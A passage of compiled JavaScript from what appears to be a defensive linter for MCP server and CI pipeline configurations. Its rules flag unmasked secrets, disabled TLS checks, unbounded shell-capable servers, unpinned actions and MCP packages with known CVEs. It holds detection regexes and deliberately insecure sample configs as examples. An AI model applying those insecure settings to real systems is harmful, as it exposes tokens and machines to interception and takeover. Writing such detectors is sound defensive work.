function article(name) {
    return /^(?:[AEIO]|a[gn]|HCP|npm|xAI)/.test(name) && !/^(?:a |One|Otter)/.test(name) ? 'an' : 'a';
}
function remedy(site) {
    switch (site?.dialect) {
        case 'github-expression':
            return 'get a short-lived token by OIDC, or refer to a repository or environment secret: ${{ secrets.NAME }}';
        case 'azure-macro':
            return 'use a workload-identity service connection or Key Vault, or map a secret variable into `env`: $(name)';
        case 'shell':
        case 'powershell':
        case 'cmd':
            return 'let the script take it from an environment variable that the CI system fills from its secret store';
        case 'mcp-client': {
            const { example, certain } = (0,clients/* clientById */.U4)(site.server?.client ?? 'unknown').dialect;
            return certain && site.server
                ? `take it from the environment instead: ${example}`
                : 'refer to an environment variable or an input of the client instead';
        }
        default:
            return 'read it at run time from a secret store, or use a short-lived token by OIDC instead';
    }
}
function customHits(facts, config) {
    return config.credentialFormats.flatMap(({ id, pattern }) => [...facts.file.text.matchAll(new RegExp(pattern, 'g'))].map(match => ({
        id,
        name: `credential of the format ${id}`,
        prefix: '',
        start: match.index,
        end: match.index + match[0].length
    })));
}
/** Whether a range meets one of others that are in order and apart. */
function overlapsAny(ranges, range) {
    let low = 0;
    let high = ranges.length;
    while (low < high) {
        const middle = (low + high) >> 1;
        if (ranges[middle].end <= range.start)
            low = middle + 1;
        else
            high = middle;
    }
    return low < ranges.length && ranges[low].start < range.end;
}
/** Finds the named value around a place of the text. */
class Sites {
    list;
    constructor(sites) {
        this.list = sites.map(site => ({ range: site.value.range(), site }));
        this.list.sort((a, b) => a.range.start - b.range.start || b.range.end - a.range.end);
    }
    /** The innermost site that holds the range, if any. */
    around(range) {
        let low = 0;
        let high = this.list.length;
        while (low < high) {
            const middle = (low + high) >> 1;
            if (this.list[middle].range.start <= range.start)
                low = middle + 1;
            else
                high = middle;
        }
        // Sites nest a few levels at most: a value, JSON in it, a string of that.
        for (let i = low - 1; i >= Math.max(0, low - 8); i--) {
            const { range: outer, site } = this.list[i];
            if (outer.end >= range.end && (site.name !== undefined || site.server))
                return site;
        }
        return undefined;
    }
}
//# sourceMappingURL=stored-credential.js.map
;// CONCATENATED MODULE: ./build/shared/lint/rules/structured-secret.js


/** Several secrets in one: the parts are not masked. */
const structuredSecret = {
    meta: {
        id: 'structured-secret',
        summary: 'Part of a structured secret is used without a mask',
        severity: 'warning',
        why: 'The runner masks a secret as a whole, as it was stored. What is taken out of it (a field of a JSON document, the decoded form of a base64 text) is another string, and is printed in clear wherever it comes up: in a log, a summary, an error message.',
        fix: 'Store each value as a secret of its own. Where that cannot be, mask the part before anything else sees it: `echo "::add-mask::$PART"`, or `##vso[task.setsecret]` in Azure Pipelines.',
        securitySeverity: 5.5,
        references: [
            'https://docs.github.com/en/actions/reference/security/secure-use#use-secrets-for-sensitive-information'
        ],
        bad: {
            file: '.github/workflows/deploy.yml',
            text: `on: push
permissions: {}
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - env:
          PASSWORD: \${{ fromJSON(secrets.DATABASE).password }}
        run: ./migrate
`
        },
        good: {
            file: '.github/workflows/deploy.yml',
            text: `on: push
permissions: {}
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - env:
          PASSWORD: \${{ secrets.DATABASE_PASSWORD }}
        run: ./migrate
`
        }
    },
    check({ pipeline }, report) {
        if (!pipeline)
            return;
        for (const use of pipeline.expressions) {
            if (use.syntax !== 'github')
                continue;
            for (const { path, within, flows } of (0,formats_expression/* referencesIn */.ii)(use.expression)) {
                if (path[0] !== 'secrets' || path.length < 2 || !flows || !within.includes('fromjson'))
                    continue;
                report({
                    range: use.range,
                    message: `a field of secret ${path[1].toUpperCase()} is used, and fields are not masked`,
                    help: 'Store the field as a secret of its own.',
                    subject: `${use.job?.id ?? ''} ${path[1]}`
                });
            }
        }
        for (const job of pipeline.jobs) {
            for (const event of secretFlow(job)) {
                if (event.kind !== 'parsed' || event.masked)
                    continue;
                report({
                    range: event.range,
                    message: `${event.value.what} is decoded or taken apart, and what comes out of it is not masked`,
                    help: pipeline.system === 'github'
                        ? 'Store the part as a secret of its own, or mask it at once: echo "::add-mask::$PART".'
                        : 'Store the part as a secret of its own, or mask it at once: ##vso[task.setsecret].',
                    subject: `${job.id} ${event.value.what}`
                });
            }
        }
    }
};
//# sourceMappingURL=structured-secret.js.map
;// CONCATENATED MODULE: ./build/shared/lint/rules/tls-verification-disabled.js

/** Certificates are not checked: encryption to whoever answers. */
const tlsVerificationDisabled = {
    meta: {
        id: 'tls-verification-disabled',
        summary: 'MCP server does not check TLS certificates',
        severity: 'error',
        why: 'Without checking the certificate, a connection is encrypted to whoever answers: anyone on the way can take the token and change what the tools return. The switch is mostly set for one system with a certificate of its own and holds for all that the server talks to.',
        fix: 'Remove the switch and name the certificate authority instead: `NODE_EXTRA_CA_CERTS`, `SSL_CERT_FILE` or `REQUESTS_CA_BUNDLE` with the path of its certificate.',
        securitySeverity: 7.4,
        references: [
            'https://cwe.mitre.org/data/definitions/295.html',
            'https://nodejs.org/api/cli.html#node_extra_ca_certsfile'
        ],
        bad: {
            file: '.mcp.json',
            text: '{\n  "mcpServers": {\n    "wiki": {"command": "npx", "args": ["-y", "wiki-mcp@1.2.3"], "env": {"NODE_TLS_REJECT_UNAUTHORIZED": "0"}}\n  }\n}\n'
        },
        good: {
            file: '.mcp.json',
            text: '{\n  "mcpServers": {\n    "wiki": {"command": "npx", "args": ["-y", "wiki-mcp@1.2.3"], "env": {"NODE_EXTRA_CA_CERTS": "certs/ca.pem"}}\n  }\n}\n'
        }
    },
    check(facts, report) {
        for (const server of facts.mcpServers) {
            for (const { name, range } of switchesOf(server)) {
                report({
                    range,
                    message: `${(0,server_label/* serverLabel */.K)(server)} does not check TLS certificates (${name})`,
                    help: 'Remove the switch; name the certificate authority with NODE_EXTRA_CA_CERTS or SSL_CERT_FILE.',
                    subject: `${server.name} ${name}`
                });
            }
        }
    }
};
const off = /^(?:0|false|no|off|none|disabled?)$/i;
const on = /^(?:1|true|yes|on)$/i;
/** Variables that switch checking off when they are off. */
const checks = /^(?:NODE_TLS_REJECT_UNAUTHORIZED|PYTHONHTTPSVERIFY|(?:\w+_)?(?:SSL|TLS|HTTPS|CERT|CERTIFICATE)_?(?:VERIFY|VERIFICATION|VALIDATION|CHECK)(?:_ENABLED)?|(?:\w+_)?VERIFY_?(?:SSL|TLS|CERT|CERTS|CERTIFICATE|CERTIFICATES|HTTPS)|(?:\w+_)?(?:SSL_)?REJECT_UNAUTHORIZED|(?:\w+_)?STRICT_SSL)$/i;
/** Variables that switch checking off when they are on. */
const skips = /^(?:(?:\w+_)?(?:SKIP|DISABLE|NO|IGNORE)_(?:SSL|TLS|CERT|CERTIFICATE|HTTPS)(?:_(?:VERIFY|VERIFICATION|VALIDATION|CHECK|ERRORS|CERTS?))?|(?:\w+_)?(?:SSL|TLS)_(?:SKIP|NO)_?VERIFY|(?:\w+_)?(?:SSL|TLS)_INSECURE|(?:\w+_)?INSECURE_(?:SSL|TLS|SKIP_VERIFY)|(?:\w+_)?SKIP_VERIFY|GIT_SSL_NO_VERIFY|VAULT_SKIP_VERIFY|(?:\w+_)?ALLOW_(?:SELF_SIGNED|INSECURE_SSL|INSECURE_TLS))$/i;
const flags = /^--(?:insecure(?:-(?:skip-)?tls(?:-verify)?|-ssl|-skip-verify)?|no-(?:verify-ssl|verify-tls|ssl-verify|tls-verify|check-certificate|ssl-verification)|(?:skip|disable|ignore)-(?:ssl|tls|cert|certificate)(?:-(?:verify|verification|validation|check|errors))?|(?:ssl|tls)-(?:no|skip)-verify|tls-skip-verify|allow-self-signed|allow-insecure-host|trusted-host)(?:=(?!false|0|no).*)?$|^--(?:verify-ssl|ssl-verify|tls-verify|verify-tls|verify)=(?:false|0|no)$/i;
function* switchesOf(server) {
    const variables = [...server.env, ...(server.launch?.env ?? [])];
    for (const { name, value } of variables) {
        const text = value.text.trim();
        const skip = skips.test(name.text);
        if (skip ? on.test(text) : checks.test(name.text) && off.test(text)) {
            yield { name: name.text, range: value.range() };
        }
    }
    const { launch } = server;
    const args = launch ? [...launch.runnerFlags, ...launch.args] : server.args;
    const all = [...new Set([...server.args, ...args])];
    const seen = new Set();
    for (const arg of all) {
        if (!flags.test(arg.text) && !/NODE_TLS_REJECT_UNAUTHORIZED=0/.test(arg.text))
            continue;
        const range = arg.range();
        if (seen.has(range.start))
            continue;
        // `-e NODE_TLS_REJECT_UNAUTHORIZED=0` of a container is a variable, found above.
        if (launch?.env.some(({ name }) => name.range().start === range.start))
            continue;
        seen.add(range.start);
        yield { name: arg.text.split('=')[0], range };
    }
}
//# sourceMappingURL=tls-verification-disabled.js.map
;// CONCATENATED MODULE: ./build/shared/lint/rules/token-in-job-env.js

/** A token in the environment of the rest of the job. */
const tokenInJobEnv = {
    meta: {
        id: 'token-in-job-env',
        summary: 'Token written to the environment of the whole job',
        severity: 'warning',
        why: 'What stands in `GITHUB_ENV` is in the environment of every later step: of each action, each script and each package that they run, long after the one call that needed it. A mask hides it in logs and from nothing else. In Azure Pipelines a secret variable is kept out of the environment, but every later task of the job can read it.',
        fix: 'Fetch the token in the step that uses it. Where two steps need it, use a masked step output and map it into the `env` of these two. In Azure Pipelines let `AzureKeyVault@2` or a task that federates fetch it right before it is needed.',
        securitySeverity: 5.5,
        references: [
            'https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-commands#setting-an-environment-variable',
            'https://learn.microsoft.com/en-us/azure/devops/pipelines/security/secrets'
        ],
        bad: {
            file: '.github/workflows/call.yml',
            text: `on: push
permissions: {}
jobs:
  call:
    runs-on: ubuntu-latest
    steps:
      - run: |
          MCP_TOKEN=$(az account get-access-token --query accessToken -o tsv)
          echo "::add-mask::$MCP_TOKEN"
          echo "MCP_TOKEN=$MCP_TOKEN" >> "$GITHUB_ENV"
`
        },
        good: {
            file: '.github/workflows/call.yml',
            text: `on: push
permissions: {}
jobs:
  call:
    runs-on: ubuntu-latest
    steps:
      - run: |
          MCP_TOKEN=$(az account get-access-token --query accessToken -o tsv)
          echo "::add-mask::$MCP_TOKEN"
          export MCP_TOKEN
          ./call-tool
`
        }
    },
    check({ pipeline }, report) {
        for (const job of pipeline?.jobs ?? []) {
            for (const event of secretFlow(job)) {
                if (event.kind !== 'handed-on')
                    continue;
                if (event.to === 'environment') {
                    report({
                        range: event.range,
                        message: `${event.name || event.value.what} is put into the environment of every later step of the job`,
                        help: 'Fetch the token in the step that uses it, or hand it on as a masked output.',
                        subject: `${job.id} ${event.name}`
                    });
                }
                else if (event.to === 'variable' && event.declared) {
                    report({
                        range: event.range,
                        severity: 'note',
                        message: `variable ${event.name} hands a secret to every later task of the job`,
                        help: 'Fetch the secret right before the step that needs it, with AzureKeyVault@2 or by federation.',
                        subject: `${job.id} ${event.name}`
                    });
                }
            }
        }
    }
};
//# sourceMappingURL=token-in-job-env.js.map
;// CONCATENATED MODULE: ./build/shared/lint/rules/unbounded-filesystem.js

const unbounded = [
    {
        target: /^(?:@wonderwhy-er\/)?desktop-commander(?:-mcp)?$|^mcp\/desktop-commander$/,
        flags: [],
        variables: ['DC_ALLOWED_DIRS', 'ALLOWED_DIRECTORIES'],
        reach: 'all files and a terminal',
        limit: 'Set DC_ALLOWED_DIRS; its terminal ignores the limit, so run it in a container.'
    },
    {
        target: /^mcp-server-git$/,
        flags: ['--repository', '-r'],
        variables: [],
        reach: 'every repository of the machine',
        limit: 'Name the repository: --repository and its path.'
    },
    {
        target: /^@cyanheads\/git-mcp-server$/,
        flags: [],
        variables: ['GIT_BASE_DIR'],
        reach: 'every repository of the machine',
        limit: 'Set GIT_BASE_DIR.'
    },
    {
        target: /^(?:mcp-server-commands|mcp-shell|mcp-shell-server|@mkusaka\/mcp-shell-server|shell-command-mcp|super-shell-mcp|mcp-server-shell|cli-mcp-server|@simonb97\/server-win-cli|terminal-controller)$/,
        flags: ['--allowed-dir', '--allowed-dirs', '--workdir', '--config'],
        variables: ['ALLOWED_DIR', 'ALLOWED_DIRS', 'ALLOWED_COMMANDS', 'ALLOW_COMMANDS', 'WORKDIR'],
        reach: 'a shell, and with it all files',
        limit: 'Name the folder and the commands it may use, or run it in a container.'
    }
];
/** A server that reaches the whole disk unless a limit is set, and none is. */
const unboundedFilesystem = {
    meta: {
        id: 'unbounded-filesystem',
        summary: 'MCP server reaches the whole disk by default and no limit is set',
        severity: 'warning',
        why: 'Some servers take no folders as arguments: without a limit they read and write whatever their user can, and some run commands. Nothing in the configuration shows it, so it looks harmless in review.',
        fix: 'Set the limit that the server knows (a flag or a variable, named in the finding), or run it in a container that has only the folder of the project.',
        securitySeverity: 7,
        references: ['https://cwe.mitre.org/data/definitions/732.html'],
        bad: {
            file: '.mcp.json',
            text: '{\n  "mcpServers": {\n    "git": {"command": "uvx", "args": ["mcp-server-git==2026.1.14"]}\n  }\n}\n'
        },
        good: {
            file: '.mcp.json',
            text: '{\n  "mcpServers": {\n    "git": {"command": "uvx", "args": ["mcp-server-git==2026.1.14", "--repository", "."]}\n  }\n}\n'
        }
    },
    check(facts, report) {
        for (const server of facts.mcpServers) {
            const kind = unboundedKind(server);
            if (!kind)
                continue;
            report({
                range: server.launch?.targetText?.range() ?? server.nameRange,
                message: `${(0,server_label/* serverLabel */.K)(server)} reaches ${kind.reach}: no limit is set`,
                help: kind.limit,
                subject: server.name
            });
        }
    }
};
function unboundedKind(server) {
    const { launch } = server;
    if (!launch?.target || launch.ecosystem === 'oci')
        return undefined;
    const kind = unbounded.find(({ target }) => target.test(launch.target));
    if (!kind)
        return undefined;
    const flag = launch.args.some(({ text }) => kind.flags.some(name => text === name || text.startsWith(`${name}=`)));
    const variable = [...server.env, ...launch.env].some(({ name, value }) => kind.variables.includes(name.text) && value.text !== '');
    return flag || variable ? undefined : kind;
}
//# sourceMappingURL=unbounded-filesystem.js.map
;// CONCATENATED MODULE: ./build/shared/lint/rules/unknown-config-key.js
/** A key with servers that the client of this file does not read. */
const unknownConfigKey = {
    meta: {
        id: 'unknown-config-key',
        summary: 'MCP servers stand under a key that the client does not read',
        severity: 'note',
        why: 'Clients use different keys for the same thing (`mcpServers`, `servers`, `mcp`, `context_servers`, `mcp_servers`) and most ignore the others in silence. The servers do not run, and a review looks at a configuration that is none.',
        fix: 'Use the key that the finding names, or move the file to where the client of this key looks for it.',
        securitySeverity: 1,
        references: [
            'https://code.visualstudio.com/docs/copilot/reference/mcp-configuration',
            'https://code.claude.com/docs/en/mcp'
        ],
        bad: {
            file: '.vscode/mcp.json',
            text: '{\n  "mcpServers": {\n    "docs": {"command": "npx", "args": ["-y", "docs-mcp@1.2.3"]}\n  }\n}\n'
        },
        good: {
            file: '.vscode/mcp.json',
            text: '{\n  "servers": {\n    "docs": {"command": "npx", "args": ["-y", "docs-mcp@1.2.3"]}\n  }\n}\n'
        }
    },
    check(facts, report) {
        for (const { wrongKeys } of facts.mcpConfigs) {
            for (const { key, expected, reason } of wrongKeys) {
                report({
                    range: key.range(),
                    message: `'${key.text}' is not read here: ${reason}`,
                    help: `Use ${expected}.`,
                    subject: key.text
                });
            }
        }
    }
};
//# sourceMappingURL=unknown-config-key.js.map
;// CONCATENATED MODULE: ./build/shared/lint/rules/unmasked-secret.js

/** A token that is handed on before the runner knows that it has to be hidden. */
const unmaskedSecret = {
    meta: {
        id: 'unmasked-secret',
        summary: 'Token handed to later steps before it is masked',
        severity: 'error',
        why: 'The runner hides stored secrets in logs. A token that a command fetched, or a part of a secret that a script took out, it does not know: once that is an output, a variable or part of the environment, any later step prints it in clear, with an error message, a debug line or a list of the environment. In Azure Pipelines a variable set without `issecret=true` is also put into the environment of every later step.',
        fix: 'Mask first, hand on after: `echo "::add-mask::$TOKEN"` in the line after the token was fetched. In Azure Pipelines set the variable with `issecret=true`. Better still, use the token in the step that fetches it.',
        securitySeverity: 8,
        references: [
            'https://docs.github.com/en/actions/reference/workflows-and-actions/workflow-commands#masking-a-value-in-a-log',
            'https://learn.microsoft.com/en-us/azure/devops/pipelines/scripts/logging-commands#setvariable-initialize-or-modify-the-value-of-a-variable'
        ],
        bad: {
            file: '.github/workflows/call.yml',
            text: `on: push
permissions: {}
jobs:
  call:
    runs-on: ubuntu-latest
    steps:
      - id: login
        run: |
          TOKEN=$(az account get-access-token --query accessToken -o tsv)
          echo "token=$TOKEN" >> "$GITHUB_OUTPUT"
`
        },
        good: {
            file: '.github/workflows/call.yml',
            text: `on: push
permissions: {}
jobs:
  call:
    runs-on: ubuntu-latest
    steps:
      - id: login
        run: |
          TOKEN=$(az account get-access-token --query accessToken -o tsv)
          echo "::add-mask::$TOKEN"
          echo "token=$TOKEN" >> "$GITHUB_OUTPUT"
`
        }
    },
    check({ pipeline }, report) {
        for (const job of pipeline?.jobs ?? []) {
            for (const event of secretFlow(job)) {
                if (event.kind !== 'handed-on')
                    continue;
                if (event.to === 'variable') {
                    if (event.declared)
                        continue;
                    const { properties } = event;
                    report({
                        range: event.range,
                        message: `variable ${event.name} gets ${event.value.what === `variable ${event.name}` ? 'what its name says is a secret' : event.value.what}, and is not declared a secret: it is shown in logs and handed to every later step`,
                        help: 'Add issecret=true to the logging command.',
                        subject: event.name,
                        ...(properties
                            ? {
                                fix: {
                                    description: `declare ${event.name} a secret`,
                                    edits: [{ ...properties, newText: ';issecret=true' }]
                                }
                            }
                            : {})
                    });
                }
                else if (!event.masked && event.certain) {
                    report({
                        range: event.range,
                        message: `${event.value.what} is written to the ${event.to === 'output' ? 'outputs of the step' : 'environment of the job'} before it is masked`,
                        help: 'Mask it first: echo "::add-mask::$VALUE".',
                        subject: `${job.id} ${event.name}`
                    });
                }
            }
        }
    }
};
//# sourceMappingURL=unmasked-secret.js.map
;// CONCATENATED MODULE: ./build/shared/lint/rules/unmatchable-subject.js



/** A subject that no token of the issuer has. */
const unmatchableSubject = {
    meta: {
        id: 'unmatchable-subject',
        summary: 'Federated subject or issuer is written so that no token ever matches',
        severity: 'warning',
        why: 'Subjects and issuers are compared letter by letter, and a wrong one is created without any error. The job then fails with AADSTS700213, and what people do next is the danger: they add a wider credential, or go back to a client secret.',
        fix: 'Put in the subject that the job really has: `mcp-gatehouse token` with `explain` prints it. Forms of GitHub: `repo:OWNER/REPO:environment:NAME`, `…:ref:refs/heads/BRANCH`, `…:ref:refs/tags/TAG`, `…:pull_request`.',
        securitySeverity: 3,
        references: [
            'https://docs.github.com/actions/reference/security/oidc',
            'https://learn.microsoft.com/entra/workload-id/workload-identity-federation-considerations'
        ],
        bad: {
            file: 'main.tf',
            text: 'resource "azurerm_federated_identity_credential" "deploy" {\n  name                      = "deploy"\n  user_assigned_identity_id = azurerm_user_assigned_identity.deploy.id\n  issuer                    = "https://token.actions.githubusercontent.com"\n  audience                  = ["api://AzureADTokenExchange"]\n  subject                   = "repo:acme/app:refs/heads/main"\n}\n'
        },
        good: {
            file: 'main.tf',
            text: 'resource "azurerm_federated_identity_credential" "deploy" {\n  name                      = "deploy"\n  user_assigned_identity_id = azurerm_user_assigned_identity.deploy.id\n  issuer                    = "https://token.actions.githubusercontent.com"\n  audience                  = ["api://AzureADTokenExchange"]\n  subject                   = "repo:acme@1/app@2:ref:refs/heads/main"\n}\n'
        }
    },
    checkAll(documents, report) {
        for (const facts of documents) {
            for (const subject of facts.federatedSubjects) {
                const found = [
                    ...subject.tests
                        .filter(({ claim, comparison }) => claim === 'sub' && comparison !== 'prefix')
                        .flatMap(({ values }) => values.map(value => ({ value, reason: flaw(value, subject) }))),
                    ...(subject.issuer && subject.provider !== 'aws'
                        ? [{ value: subject.issuer, reason: issuerFlaw(subject.issuer) }]
                        : [])
                ];
                for (const { value, reason } of found) {
                    if (!reason)
                        continue;
                    report(facts, {
                        ...problemAt(subject, value),
                        message: `${where(subject)} never matches: ${reason}`,
                        help: 'Put in what the token of the job holds, letter by letter.',
                        subject: subjectKey(subject, value.text.text)
                    });
                }
            }
        }
    }
};
function issuerFlaw(issuer) {
    return isKnown(issuer) &&
        issuer.text.text.startsWith(`${githubIssuer}/`) &&
        /\/$/.test(issuer.text.text)
        ? 'the issuer of GitHub has no slash at its end'
        : undefined;
}
function flaw(value, subject) {
    const text = literalOf(value);
    if (/^\s|\s$/.test(text))
        return 'the subject begins or ends with a blank or a line break';
    const placeholder = /<[\w -]{1,60}>/.exec(text);
    if (placeholder)
        return `${placeholder[0]} is a placeholder`;
    if (issuerKind(subject) !== 'github')
        return undefined;
    if (/^repo:/i.test(text) && !text.startsWith('repo:'))
        return "a subject of GitHub begins with 'repo:' in small letters";
    const match = /^repo:([^:]*)(?::(.*))?$/s.exec(text);
    if (!match)
        return undefined;
    const [, repository = '', context] = match;
    if (/[*?\ue000]/.test(repository))
        return undefined;
    if (context === undefined)
        return 'a subject of GitHub ends with the branch, tag, environment or pull_request';
    if (repository.split('/').length !== 2)
        return 'OWNER/REPO is expected after repo:';
    return contextFlaw(context);
}
function contextFlaw(context) {
    if (/^(?:pull-requests?|pull_requests|pullrequest|pr)$/i.test(context))
        return "it is 'pull_request' in tokens";
    if (/^refs\//.test(context))
        return "'ref:' is missing before refs/";
    if (/^ref:refs\/(?:head|tag|branch|branches)\//.test(context))
        return 'it is refs/heads/ or refs/tags/ in tokens';
    if (/^ref:(?!refs\/(?:heads|tags|pull)\/)[\w.-]/.test(context) && !/[*?\ue000]/.test(context)) {
        return "'ref:' is followed by refs/heads/ or refs/tags/ in tokens";
    }
    if (/^(?:branch|branches|tag|tags|env):/.test(context)) {
        return 'it is ref:refs/heads/…, ref:refs/tags/… or environment:… in tokens';
    }
    if (/^ref:refs\/(?:heads|tags)\/$|^environment:$/.test(context))
        return 'the name is missing';
    if (/^ref:refs\/heads\/v\d+\.\d+\.\d+$/.test(context))
        return 'a version is a tag: ref:refs/tags/… in tokens';
    return undefined;
}
//# sourceMappingURL=unmatchable-subject.js.map
;// CONCATENATED MODULE: ./build/shared/lint/rules/unpinned-action.js



/** Code by a reference that its owner can move, in a job that holds something. */
const unpinnedAction = {
    meta: {
        id: 'unpinned-action',
        summary: 'Action, template or container by a mutable reference in a job with id-token or secrets',
        severity: 'warning',
        why: 'A tag or a branch means whatever its owner, or whoever took over the account, makes of it next. In March 2025 the tags of `tj-actions/changed-files` were moved to code that printed the secrets of 23,000 repositories. In a job with `id-token: write` or secrets such code gets the same identity as the job.',
        fix: 'Use the full commit id and keep the version in a comment: `uses: owner/action@<40 hex digits> # v4.2.2`; Dependabot and Renovate update both. For images add the digest: `image@sha256:…`. For templates of other repositories set `ref` to a tag or a commit id. Owners and repositories that you trust can be named in `trusted-owners` of the configuration.',
        securitySeverity: 6.5,
        references: [
            'https://docs.github.com/en/actions/reference/security/secure-use#using-third-party-actions',
            'https://learn.microsoft.com/en-us/azure/devops/pipelines/process/templates'
        ],
        bad: {
            file: '.github/workflows/deploy.yml',
            text: `on: push
permissions: {}
jobs:
  deploy:
    runs-on: ubuntu-latest
    permissions:
      id-token: write
    steps:
      - uses: azure/login@v2
        with:
          client-id: \${{ vars.AZURE_CLIENT_ID }}
          tenant-id: \${{ vars.AZURE_TENANT_ID }}
          subscription-id: \${{ vars.AZURE_SUBSCRIPTION_ID }}
`
        },
        good: {
            file: '.github/workflows/deploy.yml',
            text: `on: push
permissions: {}
jobs:
  deploy:
    runs-on: ubuntu-latest
    permissions:
      id-token: write
    steps:
      - uses: azure/login@a457da9ea143d694b1b9c7c869ebb04ebe844ef5 # v2.3.0
        with:
          client-id: \${{ vars.AZURE_CLIENT_ID }}
          tenant-id: \${{ vars.AZURE_TENANT_ID }}
          subscription-id: \${{ vars.AZURE_SUBSCRIPTION_ID }}
`
        }
    },
    check({ pipeline }, report, config) {
        if (!pipeline)
            return;
        const trusted = new Set(config.trustedOwners.map(owner => owner.toLowerCase()));
        for (const job of pipeline.jobs) {
            const authority = authorityOf(job);
            if (!holdsAuthority(authority))
                continue;
            for (const { text, file, by, instead } of mutableReferences(job, trusted)) {
                report({
                    range: text.range(),
                    file,
                    message: `${text.text.trim()} is named by ${by}, which its owner can move, in a job that holds ${describeAuthority(authority)}`,
                    help: `Name it by ${instead}.`,
                    subject: `${job.id} ${text.text.trim()}`
                });
            }
        }
        // A pipeline that only extends a template hands it everything.
        const extended = pipeline.jobs.length === 0;
        if (extended || pipeline.jobs.some(job => holdsAuthority(authorityOf(job))))
            checkTemplates(pipeline, report);
    }
};
function mutableReferences(job, trusted) {
    const { pipeline } = job;
    const found = [];
    if (job.call)
        found.push(mutable(job.call.target, pipeline.file, trusted));
    for (const { step, file } of runningSteps(job)) {
        if (step.uses)
            found.push(mutable(step.uses, file, trusted));
    }
    const container = containerOf(job, pipeline);
    if (container)
        found.push(mutableImage(container.image.text, container.image, pipeline.file));
    return found.filter(reference => reference !== undefined);
}
function mutable(uses, file, trusted) {
    const { kind, name, ref, text } = uses;
    if (kind === 'container')
        return mutableImage(name, text, file);
    if (kind !== 'repository' || (0,action_reference/* isCommit */.WM)(ref) || ref?.includes('${{'))
        return undefined;
    // Its verifier wants the tag: "Referencing SLSA builders and generators" in its README.
    if (name === 'slsa-framework/slsa-github-generator' && /^v\d/.test(ref ?? ''))
        return undefined;
    const [owner = '', repository = ''] = name.toLowerCase().split('/');
    if (trusted.has(owner) || trusted.has(`${owner}/${repository}`))
        return undefined;
    return {
        text,
        file,
        by: ref === undefined ? 'no reference at all' : kindOf(ref),
        instead: 'its full commit id, with the version in a comment'
    };
}
function mutableImage(image, text, file) {
    if ((0,action_reference/* isPinnedImage */.Cq)(image) || /\$\{\{|\$[([]/.test(image))
        return undefined;
    const by = /:[^/]+$/.test(image) ? 'a tag' : 'no tag, which means latest';
    return { text, file, by, instead: 'its digest (@sha256:…)' };
}
function kindOf(ref) {
    if (/^(?:main|master|develop|dev|trunk|head|latest|release)$|\//i.test(ref))
        return `the branch ${ref}`;
    if (/^[0-9a-f]{7,39}$/i.test(ref) && /\d/.test(ref))
        return `the shortened commit id ${ref}`;
    return `the tag or branch ${ref}`;
}
/** The job's container; of Azure Pipelines also by its alias under `resources`. */
function containerOf(job, pipeline) {
    const { container } = job;
    return pipeline.containers.find(({ alias }) => alias === container?.image.text) ?? container;
}
/** Azure Pipelines: repositories whose templates become part of this pipeline. */
function checkTemplates(pipeline, report) {
    for (const resource of pipeline.repositories) {
        const used = pipeline.includes.find(({ text }) => text.text.trim().toLowerCase().endsWith(`@${resource.alias.toLowerCase()}`));
        // A repository of the same project is reviewed by the same people.
        const elsewhere = resource.type !== 'git' || resource.name?.text.includes('/');
        if (!used || !elsewhere)
            continue;
        const ref = resource.ref?.text.trim();
        if (ref && ((0,action_reference/* isCommit */.WM)(ref) || ref.startsWith('refs/tags/') || ref.includes('$')))
            continue;
        report({
            range: (resource.ref ?? resource.name)?.range() ?? resource.range,
            message: ref
                ? `templates of ${resource.alias} are taken from ${ref}, which its owners can change at any time`
                : `templates of ${resource.alias} are taken from its default branch, which its owners can change at any time`,
            help: 'Set ref to a tag (refs/tags/…) or to a commit id.',
            subject: `repository ${resource.alias}`,
            related: [{ message: 'used here', range: used.text.range() }]
        });
    }
}
//# sourceMappingURL=unpinned-action.js.map
// EXTERNAL MODULE: ./build/shared/lint/rules/unpinned-server.js
var unpinned_server = __webpack_require__(943);
// EXTERNAL MODULE: ./build/shared/lint/rules/unreadable-file.js
var unreadable_file = __webpack_require__(84204);
// EXTERNAL MODULE: ./build/shared/lint/rules/unused-ignore.js
var unused_ignore = __webpack_require__(20067);
;// CONCATENATED MODULE: ./build/shared/lint/data/vulnerable-servers.js
const vulnerableServers = [
    {
        ecosystem: 'npm',
        name: 'mcp-remote',
        fixed: '0.1.16',
        advisory: 'CVE-2025-6514',
        summary: 'a malicious server can run commands on the machine',
        source: 'https://nvd.nist.gov/vuln/detail/CVE-2025-6514'
    },
    {
        ecosystem: 'npm',
        name: '@modelcontextprotocol/inspector',
        fixed: '0.14.1',
        advisory: 'CVE-2025-49596',
        summary: 'a web page can run commands through its proxy',
        source: 'https://nvd.nist.gov/vuln/detail/CVE-2025-49596'
    },
    {
        ecosystem: 'npm',
        name: '@modelcontextprotocol/server-filesystem',
        fixed: '2025.7.1',
        advisory: 'CVE-2025-53109',
        summary: 'symbolic links and folder prefixes lead out of the allowed folders',
        source: 'https://nvd.nist.gov/vuln/detail/CVE-2025-53109'
    },
    {
        ecosystem: 'pypi',
        name: 'mcp-server-git',
        fixed: '2026.1.14',
        advisory: 'CVE-2026-27735',
        summary: 'files outside of the repository can be staged and read',
        source: 'https://nvd.nist.gov/vuln/detail/CVE-2026-27735'
    },
    {
        ecosystem: 'npm',
        name: 'figma-developer-mcp',
        fixed: '0.6.3',
        advisory: 'CVE-2025-53967',
        summary: 'a file key can run commands on the machine',
        source: 'https://nvd.nist.gov/vuln/detail/CVE-2025-53967'
    }
];
const archivedNames = {
    'aws-kb-retrieval': 'the AWS MCP servers (awslabs/mcp)',
    'aws-kb-retrieval-server': 'the AWS MCP servers (awslabs/mcp)',
    'brave-search': '@brave/brave-search-mcp-server',
    everart: 'a server of the vendor',
    gdrive: 'a server of the vendor',
    github: 'the GitHub MCP server (github/github-mcp-server)',
    gitlab: 'the GitLab MCP server',
    'google-maps': 'a server of the vendor',
    postgres: 'a maintained PostgreSQL server',
    puppeteer: '@playwright/mcp',
    redis: 'the Redis MCP server (redis/mcp-redis)',
    sentry: 'the Sentry MCP server (getsentry/sentry-mcp)',
    slack: 'the Slack MCP server',
    sqlite: 'a maintained SQLite server'
};
/**
 * https://github.com/modelcontextprotocol/servers-archived: "no security updates or bug fixes will
 * be provided". Two of the servers are on PyPI.
 */
const archivedServers = [
    ...Object.entries(archivedNames).map(([name, successor]) => ({
        ecosystem: 'npm',
        name: `@modelcontextprotocol/server-${name}`,
        successor
    })),
    ...['sentry', 'sqlite'].map(name => ({
